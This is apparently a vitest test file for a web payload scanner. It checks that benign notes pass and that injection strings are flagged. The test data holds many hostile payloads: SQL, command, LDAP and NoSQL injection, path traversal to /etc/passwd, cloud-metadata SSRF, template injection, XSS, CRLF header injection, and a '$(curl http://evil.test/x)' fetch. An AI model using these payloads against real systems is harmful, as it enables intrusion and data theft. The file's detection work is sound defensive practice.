import { expect, test } from 'vitest'
import { scan } from '../../test/payload/scan.ts'
import { Counters } from '../telemetry/counters.ts'
import { PAYLOAD_CHECKS } from './checks.ts'
import { PayloadScanner } from './scanner.ts'

const counters = new Counters()
const scanner = new PayloadScanner(PAYLOAD_CHECKS, counters)
const CLEAR = 7

function post(type: string, body: string): number {
  const found = scan(scanner, { method: 'POST', target: '/v1/notes', headers: [['Content-Type', type]], body })
  return found[0]?.logOdds ?? 0
}

const json = (note: string) => post('application/json', JSON.stringify({ note }))
const form = (note: string) => post('application/x-www-form-urlencoded', `note=${encodeURIComponent(note)}`)

test.each([
  'Rate 5/5, delivery 1/5 (sleep(5) while waiting, haha)',
  "It's 5 o'clock; grant me a line.",
  'How to run os.system("ls") from a Django view?',
  'Use `rm -rf` or `curl -X POST` as it says in the manual',
  'SELECT name\nFROM users\nWHERE id = 1;\nUPDATE users SET total = 3 WHERE id = 2;',
  "<?php\nRoute::get('/a', function () {\n    return view('b', ['c' => 1]);\n});",
  "const { exec } = require('child_process')\n\nexec('git status', (error) => {\n  throw error\n})",
  '203.0.113.9 - - [11/Oct/2026:03:12:01 +0000] "GET /../../etc/passwd HTTP/1.1" 400 0 "-" "x"',
  '{"level":"error"}\n203.0.113.9 - - [x] "GET /../../etc/passwd HTTP/1.1" 400 0',
  'javascript: the good parts is a book',
  'Use `confirm` or `id` as the <b>name</b>',
  'See ../root/README or https://example.com/a',
  'near:"Val-d\' Or "',
  "dell' group e",
  'union index select',
  '(load|delay)',
  'error " like load',
  'services:\n  host:\n    image: postgres:16\n  link:\n    image: x',
  '<li>a &amp; set</li><li>b</li>',
  'data:image/svg+xml;base64,9zJcRA01lsAW9xamlyfq887iQx11',
  'query System($id: ID!) { system(id: $id) { id } }',
  'Use {{ name | default("system") }} in your template',
  '{{ config.title }} and {{ request.user }} are shown',
  'https://example.com/callback.php',
  '\\\\fileserver\\team\\budget.xlsx',
  'file:///C:/Users/anna/index.html',
  '/*! keep */ .a { margin: 0 }',
  'Drop; Select',
  'Is <script> allowed in a template?',
  '<button onClick={() => setOpen(true)}>open</button>',
])('a text that only talks about it: %s', (text) => {
  expect(json(text)).toBeLessThan(CLEAR)
  expect(form(text)).toBeLessThan(CLEAR)
})

test.each([
  '1/**/OR/**/1=1',
  '1\r\nOR\r\n1=1',
  '1 OR+1=1',
  "\\' OR 1=1-- -",
  '; sh -c "id > /tmp/x"',
  ';busybox nc 203.0.113.9 80',
  '; /???/c?t /???/p?ss??',
  '| net user',
  "; c''at /etc/passwd",
  '; c$@at /etc/passwd',
  '127.0.0.1|id',
  '/etc//./passwd',
  '../../.env',
  '//evil.test/shell.php',
  'http://good.test#@169.254.169.254/',
  '\\\\203.0.113.9\\share\\x.php',
  'x\r\nQUIT\r\n',
  'me@a.test\r\nBCC : u@b.test',
  'a\r\nAccess-Control-Allow-Origin: *',
  'a*)((|userPassword=*)',
  'admin))(|(uid=*',
  '*))\0',
  "$where: '1 == 1'",
  "' || this.password != 'x",
  '${@print(md5(7))}',
  "{{#with 's' as |x|}}{{lookup x 'constructor'}}{{/with}}",
  "{system('id')}",
  "<%= File.open('/etc/passwd').read %>",
  '<style>@import "//evil.test/x.css";</style>',
  'Order 17 arrived late, <img src=x onerror=alert(1)> and nobody answered',
])('a value that does it: %j', (text) => {
  expect(json(text)).toBeGreaterThanOrEqual(CLEAR)
  expect(form(text)).toBeGreaterThanOrEqual(CLEAR)
})

test.each([
  "Great service and friendly people' UNION SELECT name,2 FROM users-- -",
  "Thank you for the answer'; DROP TABLE orders-- and that is all, please",
  "Please call me before noon' OR 'a'='a",
  'Thank you for the quick answer; cat /etc/passwd',
  'The parcel came on Monday $(curl http://evil.test/x) and was fine',
  'Please have a look at http://169.254.169.254/latest/meta-data/ and tell me',
  'My picture is at (http://0xa9fea9fe/a.png), thanks for the help',
])('a sentence in the midst of which it works: %s', (text) => {
  expect(json(text)).toBeGreaterThanOrEqual(CLEAR)
  expect(form(text)).toBeGreaterThanOrEqual(CLEAR)
})

test.each([
  "Is 'OR 1=1' always true, and why do tutorials use it?",
  'She said "OR 1=1" and I wrote it down in the manual',
  'How do I find them: ps aux | grep node | sort | uniq -c?',
  'How do I fetch it; wget http://a.test/x does nothing for me here',
  'Then type cd /var/www; ls -la and send me what it says.',
  'Try http://localhost:3000 in your browser, then http://10.0.0.5:8080/admin.',
  "It's 1 o'clock; drop me a line -- or don't",
])('a sentence that quotes it, asks about it, or goes on with words: %s', (text) => {
  expect(json(text)).toBeLessThan(CLEAR)
  expect(form(text)).toBeLessThan(CLEAR)
})

test('an error counts less where all went well, since an issue tracker shows it; a file does not', () => {
  const trace = 'Traceback (most recent call last):\n  File "a.py", line 3, in f'
  const odds = (text: string, shown: boolean) => scanner.response(text, shown)[0]?.logOdds ?? 0
  expect(odds(trace, false)).toBeGreaterThanOrEqual(CLEAR)
  expect(odds(trace, true)).toBeLessThan(CLEAR)
  expect(odds('root:x:0:0:root:/root:/bin/bash', true)).toBeGreaterThanOrEqual(CLEAR)
  expect(odds('<?php system(1) ?>', false)).toBeGreaterThanOrEqual(CLEAR)
  expect(odds('<code>&lt;?php system(1) ?&gt;</code>', false)).toBe(0)
})

test('claims of a token and short commands in base64 are read', () => {
  const claims = Buffer.from(JSON.stringify({ sub: '{{7*7}}' })).toString('base64url')
  const get = (headers: [string, string][], target = '/') =>
    scan(scanner, { method: 'GET', target, headers, body: '' })[0]
  expect(get([['Authorization', `Bearer eyJhbGciOiJIUzI1NiJ9.${claims}.c2ln`]])?.field).toBe('claim:/sub')
  expect(get([['Cookie', `state=${Buffer.from('; cat /etc/passwd').toString('base64')}`]])?.class).toBe('command')
  expect(get([], `/files/${Buffer.from("' OR 1=1-- -").toString('base64url')}`)?.class).toBe('sqli')
  expect(get([], '/?user%5B%24ne%5D=x')?.class).toBe('nosqli')
})

test('an attribute may hold the bracket that ends a tag, and a text a line end before all else', () => {
  expect(post('application/xml', '<a note="&lt;img src=x onerror=alert(1)>"/>')).toBeGreaterThanOrEqual(CLEAR)
  expect(post('application/xml', '<a>\ncat /etc/passwd</a>')).toBeGreaterThanOrEqual(CLEAR)
})

test('a thousand suspicious values cost no more than some hundred, and are counted', () => {
  const body = Array.from({ length: 1000 }, (_, i) => `a${i}=union%20x`).join('&')
  post('application/x-www-form-urlencoded', body)
  expect(counters.entries()).toContainEqual(['payload.fields_cut', 1])
})
